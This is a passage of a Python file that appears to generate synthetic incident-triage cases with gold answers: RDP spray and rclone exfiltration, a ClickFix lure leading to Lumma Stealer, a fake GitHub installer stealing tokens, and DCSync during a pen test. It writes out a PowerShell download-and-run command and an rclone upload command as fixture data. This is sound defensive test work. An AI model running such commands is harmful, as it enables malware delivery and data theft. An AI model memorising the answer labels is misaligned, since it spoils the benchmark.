    a4 = Alert(n, "scan", "mde", "Suspicious network scan performed", "Medium", at(11, "22:10", 31), at(11, "22:24", 0),
               ["Discovery"], ["T1046"], "Advanced IP Scanner, run from the Administrator's Music folder, scanned "
               "10.16.0.0/16 for SMB, RDP and HTTP on SRV-RDS-02.", compromised="SRV-RDS-02",
               extra=mde_extra(["T1046"], "Discovery", "EDR", rds))
    a5 = Alert(n, "rclone", "mde", "Possible exfiltration of data with a file synchronization tool", "High",
               at(11, "23:05", 12), at(12, "00:41", 0), ["Exfiltration"], ["T1048", "T1567"],
               "rclone.exe copied 6.8 GB from \\\\SRV-FILE-07\\Finance to an SFTP server at 198.51.100.203 from SRV-RDS-02.",
               compromised="SRV-RDS-02", extra=mde_extra(["T1048", "T1567.002"], "Exfiltration", "EDR", rds))
    build(n, "rdp-spray-admin-rclone", "Successful RDP password spray on SRV-RDS-02 followed by credential theft and exfiltration",
          "SRV-RDS-02 exposes RDP on 192.0.2.91. After a password spray, the local Administrator logged on from 203.0.113.42, "
          "ran Mimikatz and Advanced IP Scanner, and copied Finance data out with rclone.",
          "High", "New", at(12, "01:00"), [a1, a2, a3, a4, a5],
          [rds, ip_rds, pub, adm] + sprayers + [sftp, p_mimi, p_ips, p_rc, f_mimi, f_ips, f_rc, h_mimi, h_ips, h_rc],
          comments=[(TOBIAS, at(12, "01:22"),
                     "192.0.2.91 is SRV-RDS-02's own public NAT. Port 3389 was opened for a vendor three months ago and "
                     "never closed.")])
    label(n, "escalate", [], ["SRV-RDS-02", "Administrator"],
          [A("isolate-host", "SRV-RDS-02"), A("reset-credentials", "Administrator"), A("block-ip", "203.0.113.42"),
           A("block-ip", "198.51.100.203")],
          [A("block-ip", "192.0.2.91"), A("block-ip", "10.16.60.22")],
          ["TA0006", "TA0001", "TA0007", "TA0010"],
          "The DFIR Report, 'Hide Your RDP: Password Spray Leads to RansomHub Deployment' (2025-06-30), https://thedfirreport.com/",
          "The spray succeeded and the intruder dumped credentials, scanned and exfiltrated from the server; 192.0.2.91 is "
          "the server's own address.")


# ---------------------------------------------------------------- 217
def inc217():
    """ClickFix fake CAPTCHA -> Run dialog -> encoded PowerShell -> Lumma in
    BitLockerToGo.exe -> browser data stolen -> the session replayed next day."""
    n = 217
    bea = account("beatriz.costa", "Beatriz Costa", rid=1717)
    lt = host("LT-HR-052", os_version="10.0.22631")
    ip_lt = ip("10.14.22.87")
    stage = "https://captcha-cdn-verify.top/r/cf7.zip"
    script = (f"$d=\"$env:TEMP\\hr_update.zip\";iwr '{stage}' -OutFile $d -UseBasicParsing;"
              "Expand-Archive $d \"$env:TEMP\\hr_upd\" -Force;Start-Process \"$env:TEMP\\hr_upd\\Setup.exe\"")
    b64 = enc_ps(script)
    typed = f"powershell -w h -enc {b64} # I am not a robot - reCAPTCHA Verification ID: 4417"
    run = registry_key("HKEY_CURRENT_USER", "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU")
    run_v = registry_value(run, "a", typed + "\\1")
    c2 = place("203.0.113.68", "US", "United States", "Virginia", "Ashburn", 39.0438, -77.4874, 64557, "cloudflare, inc.",
               org_type="Content Delivery Network")
    replay = place("198.51.100.217", "NL", "Netherlands", "North Holland", "Amsterdam", 52.3676, 4.9041, 64558, "m247 europe srl",
                   org_type="Hosting/Data Center")
    c2d = [dns(d, [c2]) for d in ("mocadia-steelhub.shop", "ticket-pollworth.click")]
    u_stage = url(stage)
    h_setup = filehash(sha256("217/Setup.exe"))
    f_exp = file("C:\\Windows", "explorer.exe", h=lt)
    f_ps = file(PS_DIR, "powershell.exe", h=lt)
    f_setup = file("C:\\Users\\beatriz.costa\\AppData\\Local\\Temp\\hr_upd", "Setup.exe", [h_setup], h=lt)
    f_blt = file("C:\\Windows\\SysWOW64", "BitLockerToGo.exe", h=lt)
    p_exp = process(n, 5016, "C:\\Windows\\Explorer.EXE", fmt(at(9, "08:01", 0)), f_exp, None, bea, lt, "Limited")
    p_ps = process(n, 9312, f"\"C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w h -enc {b64}",
                   fmt(at(9, "10:14", 22)), f_ps, p_exp, bea, lt, "Limited")
    p_setup = process(n, 10140, "C:\\Users\\beatriz.costa\\AppData\\Local\\Temp\\hr_upd\\Setup.exe", fmt(at(9, "10:14", 51)),
                      f_setup, p_ps, bea, lt, "Limited")
    p_blt = process(n, 10388, "C:\\Windows\\SysWOW64\\BitLockerToGo.exe", fmt(at(9, "10:15", 20)), f_blt, p_setup, bea, lt, "Limited")
    mal = malware("Trojan:Win32/LummaStealer", "InfoStealer", [f_setup], [p_setup, p_blt])
    a1 = Alert(n, "runmru", "mde", "Suspicious command typed in the Run dialog", "Medium", at(9, "10:14", 22), at(9, "10:14", 30),
               ["Execution"], ["T1204", "T1059"],
               "A user pasted and ran a hidden PowerShell command with an encoded payload in the Windows Run dialog on "
               "LT-HR-052. The text ends with a fake CAPTCHA verification comment, a hallmark of 'ClickFix' lures.",
               compromised="LT-HR-052", extra=mde_extra(["T1204.004", "T1059.001", "T1027"], "Execution", "EDR", lt))
    a2 = Alert(n, "lumma", "mde", "An active 'LummaStealer' malware process was detected while executing", "High",
               at(9, "10:14", 51), at(9, "10:15", 40), ["Execution", "DefenseEvasion"], ["T1055"],
               "Setup.exe from the downloaded archive injected code into BitLockerToGo.exe, which contacted "
               "mocadia-steelhub.shop and ticket-pollworth.click.", compromised="LT-HR-052",
               extra=mde_extra(["T1055.012"], "Malware", "Antivirus", lt, ThreatName="Trojan:Win32/LummaStealer.RPZ!MTB"))
    a3 = Alert(n, "browser", "mde", "Possible theft of sensitive web browser information", "High", at(9, "10:15", 40), at(9, "10:17", 5),
               ["CredentialAccess", "Collection", "Exfiltration"], ["T1555", "T1539", "T1041"],
               "BitLockerToGo.exe read the Login Data, Cookies and Web Data files of Microsoft Edge and Google Chrome for "
               "beatriz.costa and uploaded a 2.3 MB archive to ticket-pollworth.click.", compromised="LT-HR-052",
               extra=mde_extra(["T1555.003", "T1539", "T1041"], "CredentialAccess", "EDR", lt))
    a4 = Alert(n, "token", "ipc", "Anomalous Token", "High", at(10, "06:41", 12), at(10, "06:41", 12),
               ["CredentialAccess", "InitialAccess"], ["T1539", "T1550"],
               "This detection indicates that there are abnormal characteristics in the token such as an unusual token "
               "lifetime or a token that is played from an unfamiliar location. A session cookie of "
               "beatriz.costa@contoso.com was presented from 198.51.100.217.",
               alert_type="AnomalousToken", compromised="beatriz.costa@contoso.com", remediation=IPC_STEPS,
               extra={"Detection timing type": "Offline", "Risk level": "high", "Client IP Address": "198.51.100.217"})
    build(n, "clickfix-lumma-token-replay", "ClickFix lure, Lumma Stealer on LT-HR-052 and a replayed session",
          "A fake CAPTCHA made beatriz.costa paste an encoded PowerShell command into the Run dialog on LT-HR-052; Lumma "
          "Stealer took her browser data and her session was replayed the next morning.",
          "High", "New", at(10, "07:05"), [a1, a2, a3, a4],
          [bea, lt, ip_lt, run, run_v, c2, replay, u_stage, p_exp, p_ps, p_setup, p_blt, f_exp, f_ps, f_setup, f_blt, h_setup, mal]
          + c2d + [O365],
          provider="Microsoft XDR", provider_incident="51298")
    label(n, "escalate", ["remediate"], ["LT-HR-052", "beatriz.costa@contoso.com"],
          [A("isolate-host", "LT-HR-052"), A("revoke-sessions", "beatriz.costa@contoso.com"),
           A("reset-credentials", "beatriz.costa@contoso.com"), A("block-url", stage)],
          [A("block-ip", "10.14.22.87")],
          ["TA0002", "TA0005", "TA0006", "TA0010", "TA0001"],
          "Microsoft Threat Intelligence, 'Think before you Click(Fix): Analyzing the ClickFix social engineering technique' "
          "(2025-08-21) and 'Lumma Stealer: Breaking down the delivery techniques and capabilities of a prolific infostealer' (2025-05-21)",
          "The stealer ran and took browser credentials and cookies, and one of those sessions was already replayed: contain "
          "the laptop and the identity.")


# ---------------------------------------------------------------- 218
def inc218():
    """Malvertising to a fake installer on GitHub, an infostealer on a developer
    laptop, and the developer's Azure DevOps token used to clone repositories."""
    n = 218
    jakob = account("jakob.meier", "Jakob Meier", rid=1718)
    lt = host("LT-DEV-088", os_version="10.0.22631")
    ip_lt = ip("10.14.31.5")
    gh = "https://github.com/np-plus-release/npp/releases/download/v8.7.4/Notepad++_v8.7.4_x64_Setup.zip"
    u_gh = url(gh)
    u_up = url("https://store1.gofile.io/uploadFile")
    ado_ip = place("198.51.100.33", "GB", "United Kingdom", "England", "London", 51.5074, -0.1278, 64559, "hydra communications ltd",
                   org_type="Hosting/Data Center")
    ado = cloud_app("Azure DevOps", 26320)
    zip_hash = sha256("218/Notepad++_v8.7.4_x64_Setup.zip")
    h_zip, h_exe = filehash(zip_hash), filehash(sha256("218/setup.exe"))
    f_zip = file("C:\\Users\\jakob.meier\\Downloads", "Notepad++_v8.7.4_x64_Setup.zip", [h_zip], h=lt)
    f_exe = file("C:\\Users\\jakob.meier\\AppData\\Local\\Temp\\npp874", "Notepad++_v8.7.4_x64_Setup.exe", [h_exe], h=lt)
    f_node = file("C:\\Users\\jakob.meier\\AppData\\Local\\Programs\\npp-helper", "node.exe", h=lt)
    p_exe = process(n, 14420, "C:\\Users\\jakob.meier\\AppData\\Local\\Temp\\npp874\\Notepad++_v8.7.4_x64_Setup.exe",
                    fmt(at(13, "15:03", 41)), f_exe, None, jakob, lt, "Limited")
    p_node = process(n, 14780, "node.exe C:\\Users\\jakob.meier\\AppData\\Local\\Programs\\npp-helper\\resources\\app\\index.js --silent",
                     fmt(at(13, "15:04", 2)), f_node, p_exe, jakob, lt, "Limited")
    a1 = Alert(n, "dl", "mde", "Suspicious file downloaded", "Low", at(13, "15:02", 10), at(13, "15:02", 10),
               ["InitialAccess"], ["T1189"],
               "An archive was downloaded on LT-DEV-088 from a GitHub release after a chain of redirects from an ad on a "
               "streaming site. The repository was created three days ago.", compromised="LT-DEV-088",
               extra=mde_extra(["T1189", "T1608.001"], "SuspiciousActivity", "EDR", lt))
    a2 = Alert(n, "node", "mde", "Suspicious Node.js process behavior", "Medium", at(13, "15:04", 2), at(13, "15:05", 30),
               ["Execution", "Persistence"], ["T1059", "T1547"],
               "The installer dropped a portable Node.js runtime under AppData and ran an obfuscated script, which added a Run "
               "key named 'NppHelper'.", compromised="LT-DEV-088",
               extra=mde_extra(["T1059.007", "T1547.001"], "Execution", "EDR", lt))
    a3 = Alert(n, "steal", "mde", "Information stealing malware activity", "High", at(13, "15:05", 30), at(13, "15:07", 12),
               ["CredentialAccess", "Collection", "Exfiltration"], ["T1555", "T1552", "T1567"],
               "node.exe read Chrome and Edge credential stores and cookies, %USERPROFILE%\\.git-credentials, "
               "%USERPROFILE%\\.azure\\msal_token_cache.bin and the Azure DevOps personal access tokens in the user's "
               "environment, then uploaded an archive to store1.gofile.io.", compromised="LT-DEV-088",
               extra=mde_extra(["T1555.003", "T1552.001", "T1567.002"], "CredentialAccess", "EDR", lt))
    q4 = ("ADOAuditLogs_CL\n| where OperationName_s == \"Git.RepositoryCloned\" or OperationName_s == \"Token.PatUsed\"\n"
          "| summarize Repos = dcount(Data_RepoName_s) by ActorUPN_s, IpAddress_s, bin(TimeGenerated, 1h)\n| where Repos > 10")
    a4 = Alert(n, "ado", "sentinel", "Azure DevOps personal access token used from a new address to clone many repositories", "High",
               at(13, "21:10", 0), at(13, "21:45", 0), ["Collection", "Exfiltration"], ["T1213", "T1567"],
               "The personal access token 'jm-build-2025' of jakob.meier@contoso.com cloned 27 repositories of the "
               "contoso/platform project from 198.51.100.33; the token had only been used from the office before.",
               query=q4, results=27, data_sources=["ADOAuditLogs_CL"])
    build(n, "malvertising-github-stealer-ado", "Information stealer on LT-DEV-088 and source code cloned with the user's token",
          "A fake Notepad++ installer from GitHub ran on LT-DEV-088; its Node.js payload stole browser and developer "
          "credentials and the user's Azure DevOps token was used from 198.51.100.33 the same evening.",
          "High", "New", at(13, "22:05"), [a1, a2, a3, a4],
          [jakob, lt, ip_lt, u_gh, u_up, ado_ip, ado, p_exe, p_node, f_zip, f_exe, f_node, h_zip, h_exe])
    label(n, "escalate", ["remediate"], ["LT-DEV-088", "jakob.meier@contoso.com"],
          [A("isolate-host", "LT-DEV-088"), A("revoke-sessions", "jakob.meier@contoso.com"),
           A("reset-credentials", "jakob.meier@contoso.com"), A("block-file", zip_hash)],
          [A("block-ip", "10.14.31.5")],
          ["TA0001", "TA0002", "TA0006", "TA0009", "TA0010"],
          "Microsoft Threat Intelligence, 'Malvertising campaign leads to info stealers hosted on GitHub' (2025-03-06), "
          "https://www.microsoft.com/en-us/security/blog/2025/03/06/malvertising-campaign-leads-to-info-stealers-hosted-on-github/",
          "The stealer alert is the decisive one: developer secrets left the laptop and the stolen token is already cloning "
          "source code.")


# ---------------------------------------------------------------- 219
def inc219():
    """DCSync from a SQL server and an rclone upload during a pen test week;
    the testers say it is not theirs and out of scope."""
    n = 219
    sql = host("SRV-SQL-07", os_version="10.0.20348", azure_vm="rg-prod-data")
    ip_sql = ip("10.16.20.47")
    svc = ad_account("svc-sqlagent", "SQL Server Agent service", 3719)
    krbtgt = ad_account("krbtgt", "Key Distribution Center Service Account", 502)
    mega = place("198.51.100.97", "NZ", "New Zealand", "Auckland", "Auckland", -36.8485, 174.7633, 64561, "mega cloud services limited",
                 org_type="Cloud Storage")
    kali = host("PT-KALI-02", os_family="Linux", os_version="Kali GNU/Linux Rolling 2025.4", joined=False)
    ip_kali = ip("10.90.5.14")
    h_rc = filehash(sha256("219/rclone-renamed"))
    f_rc = file("C:\\ProgramData\\SQLdiag", "sqldiag_sync.exe", [h_rc], h=sql)
    p_rc = process(n, 18812, "C:\\ProgramData\\SQLdiag\\sqldiag_sync.exe copy D:\\Backups\\SQL mg:bk --transfers 8 --config C:\\ProgramData\\SQLdiag\\rc.conf",
                   fmt(at(9, "00:05", 9)), f_rc, None, svc, sql, "Full")
    a1 = Alert(n, "dcsync", "mdi", "Suspected DCSync attack (replication of directory services)", "High",
               at(8, "23:41", 20), at(8, "23:43", 2), ["CredentialAccess"], ["T1003"],
               "svc-sqlagent on SRV-SQL-07 sent replication requests to DC-PROD-02 for krbtgt, Administrator and 1,802 other "
               "accounts. SRV-SQL-07 is not a domain controller.", compromised="svc-sqlagent",
               alert_type="DirectoryServicesReplicationSecurityAlert",
               extra={"Source computer": "SRV-SQL-07", "Account": "CONTOSO\\svc-sqlagent", "Domain controller": "DC-PROD-02"})
    a2 = Alert(n, "rclone", "mde", "Possible exfiltration of data with a file synchronization tool", "High",
               at(9, "00:05", 9), at(9, "00:52", 40), ["Exfiltration"], ["T1567"],
               "A renamed rclone (sqldiag_sync.exe, original file name rclone.exe) copied 3.4 GB of SQL backups from "
               "SRV-SQL-07 to MEGA (198.51.100.97).", compromised="SRV-SQL-07",
               extra=mde_extra(["T1567.002"], "Exfiltration", "EDR", sql))
    build(n, "dcsync-during-pentest-out-of-scope", "DCSync from SRV-SQL-07 and upload to cloud storage",
          "Directory replication from a SQL server under svc-sqlagent, followed by 3.4 GB of SQL backups uploaded to MEGA.",
          "High", "Active", at(9, "01:05"), [a1, a2],
          [sql, ip_sql, svc, krbtgt, DC_PROD_02, IP_DC_PROD_02, mega, kali, ip_kali, p_rc, f_rc, h_rc],
          owner=YUKI, labels=[("PenTest", "User")],
          comments=[(YUKI, at(9, "01:20"),
                     "Northwind Offensive Security engagement runs 2026-01-05 to 2026-01-16. Labelled PenTest for now; will confirm with "
                     "their lead in the morning."),
                    (YUKI, at(9, "08:25"),
                     "Spoke to Kagiso Mbeki (Northwind lead). Their only internal foothold is PT-KALI-02 (10.90.5.14) with "
                     "pt-northwind01. The rules of engagement (ENG-2026-01, section 4) exclude DCSync against CONTOSO and "
                     "any upload of Contoso data. SRV-SQL-07 and svc-sqlagent are not theirs and they did not do this. "
                     "<b>Not the pen test.</b>")])
    label(n, "escalate", [], ["SRV-SQL-07", "svc-sqlagent"],
          [A("isolate-host", "SRV-SQL-07"), A("disable-account", "svc-sqlagent"), A("reset-credentials", "krbtgt"),
           A("block-ip", "198.51.100.97")],
          [A("isolate-host", "DC-PROD-02"), A("block-ip", "10.16.20.47")],
          ["TA0006", "TA0010"],
          "Microsoft Learn, Defender for Identity credential access alerts: 'Suspected DCSync attack (replication of directory "
          "services)' (external ID 2006); rclone exfiltration to MEGA as in CISA AA23-165A (LockBit 3.0)",
          "The newest comment says the testers' rules exclude DCSync and uploads and that this host is not theirs: the label "
          "is wrong, the domain's secrets and SQL backups are out.")


ALL = [inc212, inc213, inc214, inc215, inc216, inc217, inc218, inc219]
